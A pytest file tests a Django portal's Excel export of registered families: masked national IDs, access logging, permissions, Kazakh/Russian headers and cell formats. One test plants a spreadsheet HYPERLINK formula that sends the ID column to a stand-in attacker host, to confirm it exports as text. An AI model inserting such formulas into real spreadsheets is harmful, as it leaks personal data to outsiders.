import datetime as dt
import io
from urllib.parse import unquote

import pytest
import time_machine
from django.contrib.contenttypes.models import ContentType
from openpyxl import load_workbook

from audit.models import AccessEvent
from families.categories import Category
from families.models import Family
from tests.factories import CentreHeadFactory, RegistrarFactory, SpecialistFactory
from tests.families.factories import FamilyFactory

pytestmark = pytest.mark.django_db

HEADERS = {
    "kk": ("Тіркелген", "Ана", "ЖСН", "Телефон", "Мекенжайы", "Аудан", "Орталық", "Балалар"),
    "ru": ("Зарегистрирована", "Мать", "ИИН", "Телефон", "Адрес", "Район", "Центр", "Дети"),
}
CATEGORY_HEADERS = {
    "kk": ("Көпбалалы", "Аз қамтылған", "Толық емес", "Мүгедектігі бар баласы бар", "АӘК алады"),
    "ru": ("Многодетная", "Малообеспеченная", "Неполная", "Есть ребёнок с инвалидностью", "Получает АСП"),
}


def sheet_of(response):
    return load_workbook(io.BytesIO(response.content)).active


def rows(response):
    return list(sheet_of(response).iter_rows(values_only=True))


def test_the_export_holds_the_filtered_list_in_the_users_language_with_masked_iins(client, almaly):
    registrar = RegistrarFactory(centre=almaly)
    large = FamilyFactory(registrar=registrar, is_large=True)
    FamilyFactory(registrar=registrar, is_large=False)
    client.force_login(registrar)

    response = client.get("/ru/families/export.xlsx", {"category": "large"})

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    header, *data = rows(response)
    assert header[:3] == ("Зарегистрирована", "Мать", "ИИН")
    assert [row[1] for row in data] == [large.mother.full_name]
    assert data[0][2] == large.mother.masked_iin and large.mother.iin not in str(data)


def test_every_export_is_in_the_access_log_with_its_row_count(client, almaly):
    registrar = RegistrarFactory(centre=almaly)
    FamilyFactory.create_batch(3, registrar=registrar)
    client.force_login(registrar)
    client.get("/kk/families/export.xlsx")
    entry = AccessEvent.objects.get(action="export", target_id="")
    assert (entry.actor, entry.what, entry.row_count) == (registrar, "families.export", 3)


def test_an_export_shows_in_the_history_of_every_family_it_held(client, almaly):
    registrar = RegistrarFactory(centre=almaly, last_name="Жұмабаева")
    exported = FamilyFactory(registrar=registrar, is_large=True)
    left_out = FamilyFactory(registrar=registrar, is_large=False)
    client.force_login(registrar)
    client.get("/kk/families/export.xlsx", {"category": "large"})

    assert list(AccessEvent.objects.filter(action="export").exclude(target_id="").values_list("target_id", flat=True)) == [
        str(exported.pk)
    ]
    client.force_login(CentreHeadFactory(centre=almaly))
    assert "Жұмабаева" in client.get(f"/kk/families/{exported.pk}/access-log/").content.decode()
    assert "Жұмабаева" not in client.get(f"/kk/families/{left_out.pk}/access-log/").content.decode()


def test_a_specialist_cannot_export(client, almaly):
    client.force_login(SpecialistFactory(centre=almaly))
    assert client.get("/kk/families/export.xlsx").status_code == 403
    assert not AccessEvent.objects.exists()


@pytest.mark.parametrize("language", ["kk", "ru"])
def test_the_headers_are_in_the_users_language_with_one_column_per_category(client, registrar, language):
    header, *_ = rows(client.get(f"/{language}/families/export.xlsx"))
    assert header == HEADERS[language] + CATEGORY_HEADERS[language]
    assert len(Category) == len(CATEGORY_HEADERS[language]) - 1  # the categories, then ASP (a fact, not a category)


@pytest.mark.parametrize(("language", "name"), [("kk", "Отбасылар 2026-12-01.xlsx"), ("ru", "Семьи 2026-12-01.xlsx")])
def test_the_file_is_named_in_the_users_language_with_the_day_of_the_export(client, registrar, language, name):
    with time_machine.travel(dt.datetime(2026, 12, 1, 15, 0, tzinfo=dt.UTC)):
        response = client.get(f"/{language}/families/export.xlsx")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''") and unquote(disposition.split("''", 1)[1]) == name


def test_each_category_says_yes_or_no_in_the_users_language(client, registrar):
    FamilyFactory(registrar=registrar, is_large=True, is_low_income=False, is_single_parent=True, has_disabled_child=False)
    _, row = rows(client.get("/ru/families/export.xlsx"))
    assert row[len(HEADERS["ru"]) :] == ("да", "нет", "да", "нет", "нет")


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_formula_at_the_start_of_a_name_or_an_address_comes_back_as_text(client, registrar, sign):
    name, address = f'{sign}HYPERLINK("http://evil.example/?"&C2,"Ашу")', f"{sign}1+1"
    FamilyFactory(registrar=registrar, mother__last_name=name, address=address)
    sheet = sheet_of(client.get("/kk/families/export.xlsx"))
    mother, address_cell = sheet["B2"], sheet["E2"]
    assert mother.data_type == "s" and mother.value.startswith(name)
    assert address_cell.data_type == "s" and address_cell.value == address


def test_the_day_of_registration_is_a_date_cell_and_the_children_a_number(client, registrar):
    with time_machine.travel(dt.datetime(2026, 11, 30, 20, 0, tzinfo=dt.UTC)):  # 1 December in Almaty
        FamilyFactory(registrar=registrar)
    sheet = sheet_of(client.get("/kk/families/export.xlsx"))
    registered, children = sheet["A2"], sheet["H2"]
    assert registered.is_date and registered.number_format == "DD.MM.YYYY" and registered.value.date() == dt.date(2026, 12, 1)
    assert children.data_type == "n" and children.value == 0


def test_phones_are_written_as_the_portal_shows_them(client, registrar):
    FamilyFactory(registrar=registrar, phone="+77011234567")
    assert sheet_of(client.get("/kk/families/export.xlsx"))["D2"].value == "8 701 123 45 67"


@pytest.mark.parametrize("count", [1, 25])
def test_the_export_costs_the_same_for_one_family_or_twenty_five(client, registrar, django_assert_num_queries, count):
    FamilyFactory.create_batch(count, registrar=registrar)
    client.get("/kk/")  # the session and the scope are settled before counting
    ContentType.objects.get_for_model(Family)
    # the user, the families with mothers, centres, districts and children counted, the export's
    # access-log row, and the rows of every family in it (one insert)
    with django_assert_num_queries(4):
        client.get("/kk/families/export.xlsx")
